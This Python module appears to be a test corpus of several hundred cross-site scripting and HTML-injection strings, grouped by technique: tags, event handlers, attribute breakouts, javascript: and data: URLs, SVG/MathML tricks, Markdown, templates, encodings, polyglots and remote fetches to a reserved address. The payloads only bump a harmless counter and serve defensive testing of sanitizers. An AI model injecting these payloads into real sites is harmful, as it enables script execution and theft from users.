"""Texts that would run a script, or fetch something, if any page took them for more than text.

Those that run raise `window.hit`; those that fetch ask a computer at 192.0.2.1, which there is not (RFC 5737).

Written for this project, by the ways in which text becomes code: markup, attributes, addresses, styles, Markdown,
templates, encodings, parsers that disagree.
"""

from __future__ import annotations

import base64
from urllib.parse import quote

RUN = "top.hit++"
_PAGE = f"<script>{RUN}</script>"
_DATA = f"data:text/html;base64,{base64.b64encode(_PAGE.encode()).decode()}"

TAGS = [
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<script\n>{RUN}</script\n>", f"<script/x>{RUN}</script>",
    f"<script src=data:text/javascript,{RUN}></script>", f"<script type=module>{RUN}</script>",
    f"<script async defer>{RUN}//", f"<<script>{RUN}//<</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>", f"</style><script>{RUN}</script>",
    f"</template><script>{RUN}</script>", f"</noscript><script>{RUN}</script>", f"</script><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--", f"]]><script>{RUN}</script>", f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>", f"<?xml version='1.0'?><script>{RUN}</script>", f"<%<script>{RUN}</script>%>",
    f"<script nonce=''>{RUN}</script>", f"<script>/*<!--*/{RUN}//--></script>", f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    f"</main></div></section></li></ul></body></html><script>{RUN}</script>", f"<plaintext><script>{RUN}</script>",
    f"<xmp><p title='</xmp><script>{RUN}</script>'>", f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe srcdoc='&lt;script&gt;{RUN}&lt;/script&gt;'></iframe>", f"<template shadowrootmode=open><script>{RUN}</script></template>",
]  # fmt: skip

_EVENTS = (
    ("img src=x", "onerror"), ("img src=x:x", "ONERROR"), ("img/src=x", "onerror"), ("image src=x", "onerror"),
    ("video src=x", "onerror"), ("video><source", "onerror"), ("audio src=x", "onerror"), ("object data=x", "onerror"),
    ("link rel=stylesheet href=x:x", "onerror"), ("script src=x:x", "onerror"), ("input type=image src=x:x", "onerror"),
    ("body", "onload"), ("svg", "onload"), ("iframe", "onload"), ("style", "onload"), ("embed src=/", "onload"),
    ("input autofocus", "onfocus"), ("textarea autofocus", "onfocus"), ("select autofocus", "onfocus"),
    ("button autofocus", "onfocus"), ("a href=#x autofocus tabindex=0", "onfocusin"), ("details open", "ontoggle"),
    ("marquee", "onstart"), ("marquee loop=1", "onfinish"), ("div style='animation:lc-x 1s'", "onanimationstart"),
    ("div style='animation:svelte 1s'", "onanimationend"), ("div style='transition:all 1s'", "ontransitionend"),
    ("div tabindex=0 contenteditable", "onbeforeinput"), ("div style='position:fixed;inset:0'", "onmouseover"),
    ("div style='position:fixed;inset:0;z-index:9999'", "onpointermove"), ("p style='position:fixed;inset:0'", "onclick"),
    ("x style='content-visibility:auto'", "oncontentvisibilityautostatechange"), ("meter", "onmouseenter"),
    ("dialog open", "onclose"), ("form", "onformdata"), ("video autoplay><source src=x", "onloadstart"),
    ("svg><animate attributeName=x dur=1s", "onbegin"), ("svg><set attributeName=x", "onbegin"),
    ("svg><animate attributeName=x dur=1s repeatCount=1", "onend"), ("body", "onpageshow"), ("body", "onhashchange"),
    ("body", "onresize"), ("body", "onscroll"), ("body", "onmessage"), ("frameset", "onload"), ("isindex type=image src=1", "onerror"),
    ("picture><source srcset=x><img src=x", "onerror"), ("track src=x", "onerror"), ("bgsound src=x", "onpropertychange"),
    ("div popover id=p", "onbeforetoggle"), ("div style='scroll-snap-type:x'", "onscrollsnapchange"), ("canvas", "oncontextlost"),
)  # fmt: skip
EVENTS = [f"<{tag} {event}={RUN}>" for tag, event in _EVENTS]

ATTRIBUTES = [
    f'" onmouseover="{RUN}', f"' onmouseover='{RUN}", f'"><img src=x onerror={RUN}>', f"'><img src=x onerror={RUN}>",
    f'" autofocus onfocus="{RUN}" x="', f"' autofocus onfocus='{RUN}' x='", f"x onfocus={RUN} autofocus tabindex=1 ",
    f'"/><svg/onload={RUN}>', f"`onmouseover={RUN} x=`", f'" style="animation:a" onanimationstart="{RUN}', f'&quot; onclick=&quot;{RUN}',
    f'" srcdoc="<script>{RUN}</script>', f'" href="javascript:{RUN}', f"\" formaction=\"javascript:{RUN}", f"&#34; onclick=&#34;{RUN}",
    f"\"><script>{RUN}</script><p title=\"", f"'\"><svg onload={RUN}><\"'", f"data-x=\"\" onerror={RUN} src=x", f"\n\" onclick=\"{RUN}\"\n",
    f"{{'a':'\"><img src=x onerror={RUN}>'}}",
]  # fmt: skip

ADDRESSES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}", f"&#106;avascript:{RUN}", f"javascript:/*-->*/{RUN}", f"javascript://%0a{RUN}", f" javascript:{RUN}",
    f"<a href=javascript:{RUN}>x</a>", f"<a href='java&#10;script:{RUN}'>x</a>", f"<a href=\"&#x6A;avascript:{RUN}\">x</a>",
    f"<form action=javascript:{RUN}><input type=submit autofocus>", f"<button form=f formaction=javascript:{RUN}>x</button>",
    f"<iframe src=javascript:{RUN}></iframe>", f"<object data=javascript:{RUN}></object>", f"<embed src=javascript:{RUN}>",
    f"<area href=javascript:{RUN}>", f"<base href=javascript:{RUN}//>", f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<a href={_DATA}>x</a>", f"<iframe src={_DATA}></iframe>", f"<object data={_DATA}></object>", f"<embed src={_DATA}>", _DATA,
    f"data:text/html,{quote(_PAGE)}", f"vbscript:{RUN}", f"view-source:javascript:{RUN}", f"feed:javascript:{RUN}",
    f"blob:javascript:{RUN}", f"https://example.com/\"onmouseover=\"{RUN}", f"https://example.com/<script>{RUN}</script>",
    f"https://example.com/'><img src=x onerror={RUN}>", f"//x/\"><svg onload={RUN}>", f"http://javascript:{RUN}@example.com/",
]  # fmt: skip

FOREIGN = [
    f"<svg><script>{RUN}</script></svg>", f"<svg><script href=data:text/javascript,{RUN} /></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text x=9 y=9>x</text></a></svg>", f"<svg><use href='data:image/svg+xml,{_PAGE}'/></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>", f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><desc><img src=x onerror={RUN}></desc></svg>", f"<svg><title><img src=x onerror={RUN}></title></svg>",
    f"<svg><image href=x onerror={RUN} /></svg>", f"<svg><animate xlink:href=#x attributeName=href values=javascript:{RUN} /><a id=x>x</a>",
    f"<svg></p><style><a id=\"</style><img src=x onerror={RUN}>\">", f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<math href=javascript:{RUN}>x</math>", f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={RUN}&gt;\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<math><style><img src=x onerror={RUN}></style></math>", f"$\\href{{javascript:{RUN}}}{{x}}$", f"$\\text{{<img src=x onerror={RUN}>}}$",
    f"$$\\htmlData{{x=y}}{{<svg onload={RUN}>}}$$", f"$\\unicode{{<img src=x onerror={RUN}>}}$", f"$\\class{{x\" onclick=\"{RUN}}}{{x}}$",
    f"\\(\\href{{javascript:{RUN}}}{{x}}\\)", f"$x</math><img src=x onerror={RUN}>$",
]  # fmt: skip

STYLES = [
    f"<style>@import 'javascript:{RUN}';</style>", f"<div style=\"background:url(javascript:{RUN})\">", f"<div style=\"width:expression({RUN})\">",
    f"<div style='behavior:url(#default#time2)' onbegin={RUN}>", f"<style>*{{x:expression({RUN})}}</style>",
    f"<link rel=import href='data:text/html,{quote(_PAGE)}'>", f"<link rel=stylesheet href=javascript:{RUN}>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={RUN}>", f"</style><svg onload={RUN}>",
    f"}}*{{background:url(\"javascript:{RUN}\")", f"<xss style=\"-moz-binding:url(data:text/xml,{RUN})\">",
]  # fmt: skip

MARKDOWN = [
    f"[x](javascript:{RUN})", f"[x](JavaScript:{RUN})", f"[x](java&#115;cript:{RUN})", f"[x](<javascript:{RUN}>)", f"<javascript:{RUN}>",
    f"![x](javascript:{RUN})", f"![x](x\"onerror=\"{RUN})", f"![x\" onerror=\"{RUN}](x)", f"[x][1]\n\n[1]: javascript:{RUN}",
    f"[x]({_DATA})", f"[x](data:text/html,{quote(_PAGE)})", f"`<img src=x onerror={RUN}>`", f"```html\n<img src=x onerror={RUN}>\n```",
    f"```x\" onmouseover=\"{RUN}\ny\n```", f"    <script>{RUN}</script>", f"> <img src=x onerror={RUN}>", f"# <svg onload={RUN}>",
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |", f"* <details open ontoggle={RUN}>", f"<p>\n<img src=x onerror={RUN}>\n</p>",
    f"[1](javascript:{RUN}) [1]", f"[1]\" onclick=\"{RUN}", f"x [1, 1]<svg onload={RUN}>", f"[^1]: <img src=x onerror={RUN}>",
    f"\\<img src=x onerror={RUN}\\>", f"**<img src=x onerror={RUN}>**", f"<https://x\"onmouseover=\"{RUN}>", f"www.x.y\"onclick=\"{RUN}",
]  # fmt: skip

TEMPLATES = [
    f"${{{RUN}}}", f"`${{{RUN}}}`", f"`+{RUN}+`", f"\\${{{RUN}}}", f"{{{{{RUN}}}}}", f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"{{{{#if 1}}}}<img src=x onerror={RUN}>{{{{/if}}}}", f"{{{{{{'<img src=x onerror={RUN}>'}}}}}}", f"{{@html '<img src=x onerror={RUN}>'}}",
    f"<%= {RUN} %>", f"#{{{RUN}}}", f"{{% raw %}}<img src=x onerror={RUN}>{{% endraw %}}", f"{{{{ '<img src=x onerror={RUN}>' | safe }}}}",
    f"');{RUN};('", f"\");{RUN};(\"", f"'-{RUN}-'", f"\\');{RUN}//", f"</script><svg onload={RUN}>${{{RUN}}}", f"\u2028{RUN}\u2028",
    f"{{{{#each [1]}}}}${{{RUN}}}{{{{/each}}}}", f"[[${{{RUN}}}]]", f"__proto__[innerHTML]=<img src=x onerror={RUN}>", f"*/{RUN}/*",
    f"{{\"__type__\":\"update\",\"value\":\"<img src=x onerror={RUN}>\"}}", f"${{value}}<img src=x onerror={RUN}>",
]  # fmt: skip

ENCODINGS = [
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&amp;lt;img src=x onerror={RUN}&amp;gt;", f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cimg src=x onerror={RUN}\\u003e", f"\\x3cimg src=x onerror={RUN}\\x3e", f"&#60;img src=x onerror={RUN}&#62;",
    f"&#x3c;svg onload={RUN}&#x3e;", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"＜img src=x onerror={RUN}＞", f"‹script›{RUN}‹/script›",
    f"<img\u00a0src=x\u00a0onerror={RUN}>", f"<img\u2003src=x onerror={RUN}>", f"<img\x0csrc=x\x0conerror={RUN}>", f"<img src=x\u200b onerror={RUN}>",
    f"\u202e<img src=x onerror={RUN}>", f"\ufeff<script>{RUN}</script>", f"<s\u0131cript>{RUN}</scr\u0131pt>", f"<\u017fcript>{RUN}</\u017fcript>",
    "<img src=x onerror=&#116;op.hit&#43;&#43;>", "<img src=x onerror='\\u0074op.hit++'>", "<img src=x onerror=top['hi'+'t']++>",
    f"<img src=x onerror=eval(atob('{base64.b64encode(RUN.encode()).decode()}'))>", "<img src=x onerror=window[`hit`]++>",
    "<script>\\u0074op.hit++</script>", f"%253Csvg%2520onload%253D{RUN}%253E", f"\x1b(J<script>{RUN}</script>",
    f"&lt<img src=x onerror={RUN}>", f"<img src='x' onerror='{RUN}'", f"<img src=x onerror={RUN}//",
]  # fmt: skip

POLYGLOTS = [
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror={RUN} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={RUN}//>",
    f"\"'><marquee><img src=x onerror={RUN}></marquee></plaintext\\></|\\><plaintext/onmouseover={RUN}>",
    f"'\"--></style></script><svg onload={RUN}>`${{{RUN}}}{{{{{RUN}}}}}", f"\" onclick={RUN}//<button ' onclick={RUN}//> */ {RUN}//",
    f"--!><svg/onload={RUN}>\"'><img src=x onerror={RUN}>](javascript:{RUN})", f"</title></style></textarea><svg/onload='{RUN}'>[x](javascript:{RUN})",
    f"${{{{<%[%'\"}}}}%\\.<img src=x onerror={RUN}>", f"<a href=\"javascript:{RUN}\" onclick=\"{RUN}\" style=\"x:expression({RUN})\">`${{{RUN}}}`</a>",
]  # fmt: skip

_AWAY = "http://192.0.2.1/x"
FETCHES = [
    f"![x]({_AWAY}.png)", f"![x][1]\n\n[1]: {_AWAY}.png", f"[![x]({_AWAY}.png)]({_AWAY})", f"<img src={_AWAY}.png>", f"<img srcset='{_AWAY} 2x'>",
    f"<link rel=stylesheet href={_AWAY}.css>", f"<link rel=preconnect href={_AWAY}>", f"<link rel=prefetch href={_AWAY}>",
    "<link rel=dns-prefetch href=//example.com>", f"<style>@import url({_AWAY}.css);</style>", f"<p style='background:url({_AWAY})'>",
    f"<video poster={_AWAY} src={_AWAY} autoplay></video>", f"<audio src={_AWAY} autoplay></audio>", f"<iframe src={_AWAY}></iframe>",
    f"<object data={_AWAY}></object>", f"<embed src={_AWAY}>", f"<svg><image href={_AWAY} /></svg>", f"<svg><use href={_AWAY}#x /></svg>",
    f"<input type=image src={_AWAY}>", f"<body background={_AWAY}>", f"<table background={_AWAY}><td background={_AWAY}>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}'>", f"<a href={_AWAY} ping={_AWAY}>x</a>", f"<form action={_AWAY}><button autofocus>",
    f"<script src={_AWAY}.js></script>", f"<base href={_AWAY}/>", f"<picture><source srcset={_AWAY}></picture>", f"$\\includegraphics{{{_AWAY}}}$",
]  # fmt: skip
INJECTIONS = tuple(
    dict.fromkeys(
        TAGS
        + EVENTS
        + ATTRIBUTES
        + ADDRESSES
        + FOREIGN
        + STYLES
        + MARKDOWN
        + TEMPLATES
        + ENCODINGS
        + POLYGLOTS
        + FETCHES
    )
)
